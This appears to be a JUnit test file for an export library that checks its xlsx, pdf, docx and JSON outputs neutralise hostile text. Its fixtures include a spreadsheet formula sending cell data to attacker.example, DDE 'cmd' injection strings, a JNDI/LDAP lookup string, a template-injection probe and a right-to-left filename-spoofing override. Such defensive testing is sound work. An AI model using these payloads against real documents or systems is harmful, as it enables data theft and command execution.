package org.hotspotatlas.export;

import static org.hotspotatlas.export.Hardening.export;
import static org.hotspotatlas.export.Hardening.record;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.hotspotatlas.core.Atlas;
import org.hotspotatlas.export.json.AnnotationsExporter;
import org.hotspotatlas.export.json.CanonicalJsonExporter;
import org.hotspotatlas.export.json.GraphJsonExporter;
import org.hotspotatlas.export.json.NdjsonClaimsExporter;
import org.hotspotatlas.export.pdf.PdfExporter;
import org.hotspotatlas.export.xlsx.XlsxExporter;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Valid but hostile text goes out safely in every format: formula-like text stays text, long text
 * is kept or visibly cut, right-to-left, combining and astral characters survive, and control
 * characters are either kept (JSON, escaped) or replaced with a warning (xlsx, pdf, docx). Each output is
 * read back with an independent reader.
 */
class HostileContentTest {

    /** Text that a spreadsheet would run as a formula if it were written as one. */
    static final String FORMULA = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Open\")";
    static final String PLUS = "+cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String TAB_FORMULA = "\t=1+1";
    static final String RTL = "روسيا والصين في مجلس الأمن \u2014 רוסיה וסין \u202Etxt.exe";
    static final String COMBINING = "Ze\u0301ro Z\u0337\u0322\u034e\u0300a\u0334l\u0338g\u0336o n\u0303";
    static final String EMOJI = "\uD83C\uDDF7\uD83C\uDDFA\uD83E\uDD1D\uD83C\uDDE8\uD83C\uDDF3 \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD834\uDD1E";
    static final String CONTROLS = "ctrl[\u0000\u0001\u0007\u0008\u000B\u000C\u001B[31m\u001F\u007F]\ttab\nline";
    static final String ESCAPES = "_x0041_ <b>&amp;</b> ]]> ${jndi:ldap://x/a} %s %n {{7*7}}";
    static final String WORD = "W".repeat(10_000);
    static final String LONG = longText(100_000);

    static Atlas atlas;
    static final Map<String, Hardening.Output> OUT = new LinkedHashMap<>();

    static String longText(int chars) {
        StringBuilder sb = new StringBuilder(chars);
        for (int i = 0; sb.length() < chars; i++) {
            sb.append("word").append(i % 97).append(i % 13 == 0 ? ". " : " ");
        }
        sb.setLength(chars - 1);
        return sb.append('Z').toString();
    }

    @BeforeAll
    static void exportAll() {
        atlas = Hardening.read(Hardening.fixtureWith(root -> {
            record(root, "hotspots", 0).put("name", FORMULA);
            record(root, "hotspots", 1).put("name", "Sylvania " + PLUS);
            record(root, "hotspots", 1).put("summary", "A word too wide for any cell: " + WORD + " ends here.");
            record(root, "hotspots", 0).put("summary", "Markup as text: " + ESCAPES);
            record(root, "actors", 2).put("name", AT);
            record(root, "actors", 5).put("name", MINUS);
            record(root, "actors", 6).put("name", "Forum" + WORD);
            record(root, "actors", 7).put("name", TAB_FORMULA);
            record(root, "actors", 4).put("name", "Rufus _x0041_ Firefly");
            record(root, "claims", 0).put("summary", FORMULA);
            record(root, "claims", 1).put("summary", LONG);
            record(root, "claims", 2).put("summary", "Veto " + WORD);
            record(root, "claims", 3).put("summary", RTL);
            record(root, "claims", 4).put("summary", COMBINING);
            record(root, "claims", 5).put("summary", EMOJI);
            record(root, "claims", 6).put("summary", CONTROLS);
            record(root, "claims", 7).put("summary", ESCAPES);
            record(root, "events", 0).put("title", "Summit " + CONTROLS);
            ((ObjectNode) root.get("source")).put("url", "file:///C:/Windows/System32/calc.exe");
        }));
        for (Exporter e : Hardening.exporters()) {
            // a hang guard, not a speed target: OpenPDF can loop on a word wider than its cell
            OUT.put(e.format(), assertTimeoutPreemptively(Duration.ofSeconds(60), () -> export(e, atlas),
                    e.format() + " export did not finish"));
        }
        String keep = System.getProperty("hardening.keep");
        if (keep != null) {
            OUT.forEach((format, o) -> {
                try {
                    java.nio.file.Files.write(java.nio.file.Path.of(keep, "hostile." + format), o.bytes());
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });
        }
    }

    // ------------------------------------------------------------------ xlsx

    private static List<Cell> cells(XSSFWorkbook wb) {
        List<Cell> all = new ArrayList<>();
        for (Sheet sheet : wb) {
            for (Row row : sheet) {
                row.forEach(all::add);
            }
        }
        return all;
    }

    private static List<Cell> cellsStartingWith(XSSFWorkbook wb, String prefix) {
        return cells(wb).stream().filter(c -> c.getCellType() == CellType.STRING
                && c.getStringCellValue().startsWith(prefix)).toList();
    }

    @Test
    void xlsxHasNoFormulaAndKeepsFormulaLikeTextAsStrings() throws Exception {
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            for (Cell c : cells(wb)) {
                assertNotEquals(CellType.FORMULA, c.getCellType(), () -> "a formula cell at " + c.getAddress()
                        + " of " + c.getSheet().getSheetName());
            }
            for (String hostile : List.of(FORMULA, PLUS, MINUS, AT, TAB_FORMULA)) {
                List<Cell> found = cells(wb).stream().filter(c -> c.getCellType() == CellType.STRING
                        && c.getStringCellValue().contains(hostile)).toList();
                assertFalse(found.isEmpty(), "no cell holds " + hostile);
            }
            // the exact summary is a cell of its own on the Claims sheet
            assertTrue(cellsStartingWith(wb, FORMULA).stream().anyMatch(c -> c.getStringCellValue().equals(FORMULA)));
        }
    }

    @Test
    void xlsxKeepsUnicodeAndMarkupExactly() throws Exception {
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            for (String text : List.of(COMBINING, EMOJI, ESCAPES, "Veto " + WORD, "Rufus _x0041_ Firefly")) {
                assertTrue(cells(wb).stream().anyMatch(c -> c.getCellType() == CellType.STRING
                        && c.getStringCellValue().equals(text)), "no cell holds exactly: " + text.substring(0, 20));
            }
        }
    }

    /** A right-to-left override would show "txt.exe" reversed; the workbook shows a marker instead. */
    @Test
    void xlsxShowsBidirectionalControlsAsMarkers() throws Exception {
        String shown = RTL.replace("\u202E", "[U+202E]");
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            assertTrue(cells(wb).stream().anyMatch(c -> c.getCellType() == CellType.STRING
                    && c.getStringCellValue().equals(shown)), "a cell shows the override as a marker");
            assertFalse(cells(wb).stream().anyMatch(c -> c.getCellType() == CellType.STRING
                    && c.getStringCellValue().chars().anyMatch(ch -> ch >= 0x202A && ch <= 0x202E
                    || ch >= 0x2066 && ch <= 0x2069)), "no cell holds a bidirectional control");
        }
    }

    @Test
    void pdfShowsBidirectionalControlsAsMarkers() {
        String text = Hardening.pdf(OUT.get("pdf").bytes()).text();
        // the brief 2.0 tells only some claims; where the hostile text appears it must show the marker
        // (the typesetter's rule itself is tested in pdf.TypesetterBidiTest)
        if (text.contains("txt.exe")) {
            assertTrue(text.replaceAll("\\s+", "").contains("[U+202E]txt.exe"), "the brief shows the override as a marker");
        }
        assertFalse(text.contains("\u202E"), "the brief holds no override");
    }

    @Test
    void theAtlasWarnsOfBidirectionalControlsOncePerField() {
        assertEquals(List.of("claims[3] (id fx-loans).summary"),
                atlas.textWarnings().stream().map(org.hotspotatlas.core.Problem::where).toList());
        assertTrue(atlas.textWarnings().get(0).message().contains("U+202E"), atlas.textWarnings().toString());
    }

    @Test
    void xlsxCutsTextOverTheCellLimitVisiblyAndSaysSo() throws Exception {
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            List<Cell> cut = cellsStartingWith(wb, LONG.substring(0, 50));
            assertFalse(cut.isEmpty());
            for (Cell c : cut) {
                String v = c.getStringCellValue();
                assertTrue(v.length() <= 32_767, "within Excel's cell limit: " + v.length());
                assertTrue(v.endsWith("[cut: 100000 characters in all]"), v.substring(v.length() - 60));
                assertTrue(LONG.startsWith(v.substring(0, v.indexOf(" \u2026 [cut:"))), "the kept part is the start");
            }
        }
        assertTrue(OUT.get("xlsx").result().warnings().stream()
                .anyMatch(w -> w.contains("text of 100000 characters cut to 32767")), OUT.get("xlsx").result().warnings()::toString);
    }

    @Test
    void xlsxReplacesControlCharactersAndWarns() throws Exception {
        String expected = "ctrl[\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD[31m\uFFFD\u007F]\ttab\nline";
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            assertTrue(cells(wb).stream().anyMatch(c -> c.getCellType() == CellType.STRING
                    && c.getStringCellValue().equals(expected)), "the control characters became U+FFFD");
            assertTrue(cells(wb).stream().noneMatch(c -> c.getCellType() == CellType.STRING
                    && c.getStringCellValue().chars().anyMatch(ch -> ch < 0x20 && ch != '\t' && ch != '\n' && ch != '\r')));
        }
        assertTrue(OUT.get("xlsx").result().warnings().stream()
                .anyMatch(w -> w.contains("characters that XML cannot hold were replaced with U+FFFD")));
    }

    @Test
    void xlsxLinksOnlyToWebAddressesAndItsOwnSheets() throws Exception {
        try (XSSFWorkbook wb = Hardening.xlsx(OUT.get("xlsx").bytes())) {
            for (Cell c : cells(wb)) {
                XSSFHyperlink h = (XSSFHyperlink) c.getHyperlink();
                if (h != null) {
                    assertTrue(h.getType() == HyperlinkType.DOCUMENT
                            || h.getAddress().startsWith("https://") || h.getAddress().startsWith("http://"),
                            () -> "a link to " + h.getAddress() + " at " + c.getAddress());
                }
            }
            // the address is still shown, as text
            assertFalse(cellsStartingWith(wb, "file:///C:/Windows/System32/calc.exe").isEmpty());
        }
    }

    // ------------------------------------------------------------------ pdf

    @Test
    void pdfOpensAndShowsTheHostileNamesAsText() throws Exception {
        Hardening.PdfText pdf = Hardening.pdf(OUT.get("pdf").bytes());
        assertTrue(pdf.pages() >= 1);
        String squashed = pdf.text().replaceAll("\\s+", "");
        assertTrue(squashed.contains(FORMULA.replaceAll("\\s+", "")), "the formula-like hotspot name is printed");
        assertTrue(squashed.contains(("Sylvania " + PLUS).replaceAll("\\s+", "")));
        // the 10,000-character words (a claim's and a hotspot's) are printed whole, broken across
        // lines and pages, and the text after them is there too
        assertTrue(squashed.chars().filter(c -> c == 'W').count() >= 2 * WORD.length(), "the long words are kept");
        assertTrue(squashed.contains("endshere."), "the text after the long word is kept");
    }

    @Test
    void pdfHasNoActiveContent() throws Exception {
        try (PDDocument doc = Loader.loadPDF(OUT.get("pdf").bytes())) {
            assertNull(doc.getDocumentCatalog().getOpenAction(), "no open action");
            assertTrue(doc.getDocumentCatalog().getNames() == null
                    || doc.getDocumentCatalog().getNames().getJavaScript() == null, "no document JavaScript");
            assertNull(doc.getDocumentCatalog().getAcroForm(), "no form");
            for (PDPage page : doc.getPages()) {
                for (PDAnnotation a : page.getAnnotations()) {
                    if (a instanceof PDAnnotationLink link && link.getAction() != null) {
                        PDAction action = link.getAction();
                        assertTrue(action instanceof PDActionURI uri && uri.getURI().startsWith("http")
                                || "GoTo".equals(action.getSubType()), "link action " + action.getSubType());
                    }
                }
            }
        }
    }

    @Test
    void pdfReportsWhatItCouldNotDraw() {
        List<String> warnings = OUT.get("pdf").result().warnings();
        assertTrue(warnings.stream().anyMatch(w -> w.contains("U+0000") || w.contains("U+0001")),
                "control characters are reported: " + warnings);
    }

    // ------------------------------------------------------------------ docx

    @Test
    void docxOpensAndShowsTheHostileNamesAsText() throws Exception {
        String text = Hardening.docxText(OUT.get("docx").bytes());
        assertTrue(text.contains(FORMULA), "the formula-like hotspot name is written as text");
        assertTrue(text.contains("Sylvania " + PLUS));
        assertTrue(text.chars().filter(c -> c == 'W').count() >= 2 * WORD.length(), "the long words are kept");
        assertTrue(text.contains("ends here."), "the text after the long word is kept");
        assertTrue(text.contains(ESCAPES), "markup, entities and template syntax are written as text");
        assertFalse(text.chars().anyMatch(c -> c < 0x20 && c != '\n' && c != '\t'), "no raw control character");
        assertEquals(List.of(), Hardening.docxSchemaViolations(OUT.get("docx").bytes()), "valid against the OOXML schema");
    }

    @Test
    void docxLinksOnlyToWebAddressesAndHasNoActiveContent() throws Exception {
        try (org.apache.poi.xwpf.usermodel.XWPFDocument doc = Hardening.docx(OUT.get("docx").bytes())) {
            for (org.apache.poi.openxml4j.opc.PackagePart part : doc.getPackage().getParts()) {
                if (part.isRelationshipPart()) {
                    continue;
                }
                String type = part.getContentType();
                assertFalse(type.contains("macro") || type.contains("vbaProject") || type.contains("oleObject")
                        || type.contains("activeX"), "no active content: " + part.getPartName());
                for (org.apache.poi.openxml4j.opc.PackageRelationship rel : part.getRelationships()) {
                    if (rel.getTargetMode() == org.apache.poi.openxml4j.opc.TargetMode.EXTERNAL) {
                        String target = rel.getTargetURI().toString();
                        assertTrue(target.startsWith("https://") || target.startsWith("http://"),
                                "external target " + target + " of " + part.getPartName());
                    }
                }
            }
            org.apache.poi.xwpf.usermodel.XWPFParagraph source = doc.getParagraphs().stream()
                    .filter(p -> p.getText().startsWith("Source")).findFirst().orElseThrow();
            assertTrue(source.getRuns().stream().noneMatch(r -> r instanceof org.apache.poi.xwpf.usermodel.XWPFHyperlinkRun),
                    "the file: source address is not a link: " + source.getText());
        }
    }

    @Test
    void docxReportsWhatItReplaced() {
        List<String> warnings = OUT.get("docx").result().warnings();
        assertTrue(warnings.stream().anyMatch(w -> w.contains("U+FFFD")), "control characters are reported: " + warnings);
    }

    // ------------------------------------------------------------------ json

    @Test
    void canonicalJsonKeepsEveryCharacterAndReadsBackEqual() {
        byte[] bytes = OUT.get("json").bytes();
        JsonNode tree = Hardening.json(bytes);
        Hardening.assertMeets(Hardening.DATASET_SCHEMA, tree, "the canonical document");
        assertEquals(atlas, Hardening.read(bytes));
        assertEquals(CONTROLS, tree.get("claims").findValuesAsString("summary").stream()
                .filter(s -> s.startsWith("ctrl[")).findFirst().orElseThrow());
        assertTrue(OUT.get("json").result().warnings().isEmpty());
    }

    @Test
    void graphAndNdjsonKeepEveryCharacterAndMeetTheirSchemas() {
        JsonNode graph = Hardening.json(OUT.get("graph").bytes());
        Hardening.assertMeets(Hardening.GRAPH_SCHEMA, graph, "the graph");
        String graphText = graph.toString();
        for (String s : List.of(FORMULA, MINUS, AT, RTL, EMOJI)) {
            assertTrue(graph.findValuesAsString("label").contains(s) || graphText.contains(Hardening.JSON.writeValueAsString(s)),
                    "the graph keeps " + s);
        }
        List<JsonNode> lines = Hardening.ndjson(OUT.get("ndjson").bytes());
        assertEquals(atlas.claims().size(), lines.size());
        lines.forEach(l -> Hardening.assertMeets(Hardening.LINE_SCHEMA, l, "a claim line"));
        List<String> summaries = lines.stream().map(l -> l.get("summary").asString()).toList();
        assertTrue(summaries.containsAll(List.of(FORMULA, LONG, RTL, COMBINING, EMOJI, CONTROLS, ESCAPES)));
    }

    /**
     * We write no CSV, but a tool that opens a JSON file as delimited text must not find a field that
     * starts a formula: every line of the four JSON formats starts with a bracket, a brace, a quote or
     * indentation, and the text itself always sits inside a quoted, escaped JSON string.
     */
    @Test
    void noJsonLineStartsLikeAFormula() {
        for (String format : List.of("json", "graph", "ndjson", "annotations")) {
            String text = new String(OUT.get(format).bytes(), StandardCharsets.UTF_8);
            for (String line : text.split("\n")) {
                assertTrue(line.isEmpty() || "{}[] \"".indexOf(line.charAt(0)) >= 0,
                        format + " line starts with " + line.charAt(0));
            }
            assertFalse(text.chars().anyMatch(c -> c < 0x20 && c != '\n'), format + " has a raw control character");
        }
    }

    @Test
    void everyFormatWasExported() {
        assertEquals(List.of("xlsx", "pdf", "docx", "json", "graph", "ndjson", "annotations"), List.copyOf(OUT.keySet()));
        assertEquals(new XlsxExporter().format(), "xlsx");
        assertEquals(new PdfExporter().format(), "pdf");
        assertEquals(new CanonicalJsonExporter().format(), "json");
        assertEquals(new GraphJsonExporter().format(), "graph");
        assertEquals(new NdjsonClaimsExporter().format(), "ndjson");
        assertEquals(new AnnotationsExporter().format(), "annotations");
    }
}
